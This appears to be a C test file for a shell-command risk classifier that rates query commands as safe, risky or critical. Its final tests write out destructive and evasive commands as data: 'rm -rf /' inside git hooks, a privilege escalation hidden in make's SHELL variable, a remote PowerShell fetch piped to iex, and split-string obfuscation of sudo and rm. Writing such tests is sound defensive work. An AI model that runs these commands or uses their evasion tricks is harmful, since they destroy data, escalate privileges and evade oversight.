/* Query tools: programs that only read in some forms (a subcommand, an
 * option) and change things in others (issue #10 §2, "needless prompts").
 * Each row of launch.c's query table and each read-only row added for it is
 * tried in a form that reads (silent at Normal) and one that writes or runs
 * (asks). */
#include <criterion/criterion.h>
#include <string.h>

#include "core/shell/internal.h"
#include "shell_expect.h"
#include "waggle/shell.h"

Test(shell_queries, toolchain_and_package_listings_read_silently)
{
    shellt_expect("rustup show", SAFE, NULL);
    shellt_expect("rustup toolchain list", SAFE, NULL);
    shellt_expect("conda list", SAFE, NULL);
    shellt_expect("mamba env list", SAFE, NULL);
    shellt_expect("snap list", SAFE, NULL);
    shellt_expect("flatpak remote-ls flathub", SAFE, NULL);
    shellt_expect("pip index versions requests", SAFE, NULL);
    shellt_expect("pip3 check", SAFE, NULL);
    shellt_expect("npm audit", SAFE, NULL);
    shellt_expect("npm audit --json", SAFE, NULL);
    shellt_expect("rustup update", RISKY, "bash.unknown_program");
    shellt_expect("rustup toolchain install nightly", RISKY, "bash.unknown_program");
    shellt_expect("conda install numpy", RISKY, "bash.unknown_program");
    shellt_expect("snap remove firefox", RISKY, "bash.unknown_program");
    shellt_expect("flatpak uninstall org.gimp.GIMP", RISKY, "bash.unknown_program");
    shellt_expect("npm audit fix", RISKY, "bash.package_manager");
    shellt_expect("npm audit --fix", RISKY, "bash.package_manager");
    shellt_expect("npm audit $SUB", RISKY, "bash.package_manager");   /* $SUB may be fix */
}

Test(shell_queries, archives_and_media_are_read_without_a_prompt)
{
    shellt_expect("gzip -l logs.gz", SAFE, NULL);
    shellt_expect("gzip -t logs.gz", SAFE, NULL);
    shellt_expect("7z l backup.7z", SAFE, NULL);
    shellt_expect("unrar lt a.rar", SAFE, NULL);
    shellt_expect("bzgrep -i error app.log.bz2", SAFE, NULL);
    shellt_expect("xzless notes.xz", SAFE, NULL);
    shellt_expect("identify -verbose logo.png", SAFE, NULL);
    shellt_expect("pdfinfo report.pdf", SAFE, NULL);
    shellt_expect("ffprobe -hide_banner clip.mp4", SAFE, NULL);
    shellt_expect("exiftool -G1 -a photo.jpg", SAFE, NULL);
    shellt_expect("gzip big.log", RISKY, "bash.unknown_program");        /* replaces the file */
    shellt_expect("7z x backup.7z", RISKY, "bash.unknown_program");
    shellt_expect("7z a out.7z src", RISKY, "bash.unknown_program");
    shellt_expect("ffprobe -report clip.mp4", RISKY, "bash.unknown_program");
    shellt_expect("ffprobe -o meta.txt clip.mp4", RISKY, "bash.unknown_program");
    shellt_expect("exiftool -Artist=me photo.jpg", RISKY, "bash.unknown_program");
    shellt_expect("exiftool '-DateTimeOriginal<FileModifyDate' photo.jpg", RISKY, "bash.unknown_program");
    shellt_expect("exiftool -all= -overwrite_original photo.jpg", RISKY, "bash.unknown_program");
    shellt_expect("exiftool -o out/ photo.jpg", RISKY, "bash.unknown_program");
}

Test(shell_queries, linters_and_type_checks_that_only_report_are_silent)
{
    shellt_expect("shellcheck scripts/*.sh", SAFE, NULL);
    shellt_expect("yamllint -s .", SAFE, NULL);
    shellt_expect("hadolint Dockerfile", SAFE, NULL);
    shellt_expect("ruff check src", SAFE, NULL);
    shellt_expect("ruff format --check .", SAFE, NULL);
    shellt_expect("tsc --noEmit", SAFE, NULL);
    shellt_expect("tsc -p tsconfig.json --noEmit", SAFE, NULL);
    shellt_expect("xmllint --noout pom.xml", SAFE, NULL);
    shellt_expect("ruff check --fix src", RISKY, "bash.unknown_program");
    shellt_expect("ruff format .", RISKY, "bash.unknown_program");
    shellt_expect("tsc", RISKY, "bash.unknown_program");                  /* emits .js files */
    shellt_expect("tsc --noEmit --generateTrace trace", RISKY, "bash.unknown_program");
    shellt_expect("xmllint --format a.xml --output a.xml", RISKY, "bash.unknown_program");
}

Test(shell_queries, system_listings_read_and_changes_ask)
{
    shellt_expect("findmnt -t ext4", SAFE, NULL);
    shellt_expect("mount", SAFE, NULL);
    shellt_expect("mount -l -t tmpfs", SAFE, NULL);
    shellt_expect("mount --types=nfs", SAFE, NULL);
    shellt_expect("localectl status", SAFE, NULL);
    shellt_expect("localectl", SAFE, NULL);
    shellt_expect("ssh-keygen -lf id_ed25519.pub", SAFE, NULL);
    shellt_expect("ssh-keygen -F github.com", SAFE, NULL);
    shellt_expect("mount /dev/sdb1 /mnt", RISKY, "bash.unknown_program");
    shellt_expect("mount -a", RISKY, "bash.unknown_program");
    shellt_expect("mount -t ext4 /dev/sdb1 /mnt", RISKY, "bash.unknown_program");
    shellt_expect("mount $DEV", RISKY, "bash.unknown_program");
    shellt_expect("localectl set-locale LANG=C", RISKY, "bash.unknown_program");
    shellt_expect("ssh-keygen -R github.com", RISKY, "bash.unknown_program");
    shellt_expect("ssh-keygen -t ed25519 -N '' -f k", RISKY, "bash.unknown_program");
    shellt_expect("ssh-keygen -p -f id_rsa", RISKY, "bash.unknown_program");
}

Test(shell_queries, a_query_tool_still_carries_never_autopass_it_is_given)
{
    shellt_expect("gzip -l a.gz; sudo reboot", CRIT, "critical.privilege");
    shellt_expect("mount -t ext4 /dev/sda1 / && rm -rf /", CRIT, "critical.rm_root");
    shellt_expect("7z l a.7z > /dev/sda", CRIT, NULL);
}

Test(shell_queries, commands_handed_to_git_make_and_iex_are_read)
{
    shellt_expect("git submodule foreach 'rm -rf /'", CRIT, "critical.rm_root");
    shellt_expect("git rebase --exec 'sudo make install' HEAD~2", CRIT, "critical.privilege");
    shellt_expect("git filter-branch --tree-filter 'rm -rf ~' HEAD", CRIT, "critical.rm_home");
    shellt_expect("git submodule foreach git pull", RISKY, "bash.git");
    shellt_expect("git commit -m 'do not run rm -rf / here'", RISKY, "bash.git");   /* a message runs nothing */
    shellt_expect("make SHELL='/bin/sh -c \"sudo id\"'", CRIT, "critical.privilege");
    shellt_expect("make CFLAGS='-O2 -g' test", RISKY, "bash.unknown_program");
    shellt_expect("irm https://example.com/i.ps1 | iex", CRIT, "critical.shell_unseen_text");
    shellt_expect("Invoke-Expression $payload", CRIT, "critical.shell_unseen_text");
}

Test(shell_queries, adjacent_literals_in_inline_code_are_one_string)
{
    shellt_expect("awk 'BEGIN{c=\"sud\" \"o reboot\"; system(c)}'", CRIT, "critical.code_signal");
    shellt_expect("python3 -c 'import os; os.system(\"rm -r\" \"f ~\")'", CRIT, "critical.code_signal");
    shellt_expect("awk 'BEGIN{print \"a\" \"b\"}'", SAFE, NULL);
}
